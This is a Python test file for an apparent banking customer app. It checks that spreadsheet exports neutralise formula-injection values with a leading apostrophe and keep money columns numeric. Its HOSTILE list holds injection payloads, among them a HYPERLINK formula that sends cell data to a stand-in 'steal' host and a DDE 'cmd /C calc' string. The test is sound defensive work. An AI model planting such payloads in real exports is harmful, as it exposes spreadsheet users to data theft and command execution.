"""Exports cannot carry formulas (issue 11, point 9): a text cell a spreadsheet would read as a
formula is neutralised in every export; numbers stay numbers."""

from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import load_workbook

from steward.core.export import sheet_cell
from steward.customers.tests.factories import CustomerFactory
from steward.testing import grant

HOSTILE = [
    '=HYPERLINK("http://x.example/steal?d="&A1,"点此查看")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def _cells(response):
    assert response.status_code == 200, response.status_code
    assert "spreadsheetml" in response["Content-Type"]
    sheet = load_workbook(BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value not in (None, "")]


@pytest.fixture
def hostile_customers(bank):
    grant(
        bank.north_manager,
        "customers.customer:view",
        "customers.orglist:view",
        "customers.customer:export",
        "audit.entry:view",
        "audit.entry:export",
        scope="subtree",
    )
    customers = []
    for index, name in enumerate(HOSTILE):
        customers.append(
            CustomerFactory(
                org=bank.north_team, owner=bank.north_rm, name=name, cif=f"X{index:03d}", aum=Decimal(f"-{index}1.50")
            )
        )
    return customers


def test_customer_export_neutralises_formulas_and_keeps_money_numeric(bank, hostile_customers, client):
    """PLT-13 / issue 11.9: a customer named =HYPERLINK(…), @SUM(…), +…, -…, or starting with a tab
    or carriage return is exported as text with a leading apostrophe, never as a formula; the AUM
    column stays numeric (negative amounts included)."""
    client.force_login(bank.north_manager)
    cells = _cells(client.get("/customers/org/", {"export": "xlsx"}))
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell was exported as a formula"
    # (XML turns a stored carriage return into a line feed on reading)
    values = [c.value.replace("\r", "\n") if isinstance(c.value, str) else c.value for c in cells]
    for name in HOSTILE:
        name = name.replace("\r", "\n")
        assert name not in values
        assert "'" + name in values, f"{name!r} was not neutralised"
    numbers = [c.value for c in cells if c.data_type == "n"]
    assert Decimal("-11.50") in [Decimal(str(n)) for n in numbers], "the AUM column is no longer numeric"


def test_audit_export_neutralises_formulas(bank, hostile_customers, client):
    """Issue 11.9: the audit trail's export goes through the same path — an entry naming the
    customer =HYPERLINK(…) carries no formula."""
    from steward.customers import services

    customer = hostile_customers[0]
    grant(bank.north_manager, "customers.customer:change", scope="subtree")
    services.update_customer(bank.north_manager, customer, name=HOSTILE[0] + " ")
    client.force_login(bank.north_manager)
    cells = _cells(client.get("/audit/", {"export": "xlsx"}))
    assert not [c.coordinate for c in cells if c.data_type == "f"], "an audit cell was exported as a formula"
    assert any(str(c.value).startswith("'=HYPERLINK") for c in cells)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("张三", "张三"),
        ("a=b", "a=b"),
        (Decimal("-12.50"), Decimal("-12.50")),
        (-3, -3),
        (None, ""),
        (True, "True"),
    ],
)
def test_sheet_cell(value, expected):
    """Issue 11.9: only text is neutralised; numbers (negative ones too) stay numbers."""
    assert sheet_cell(value) == expected
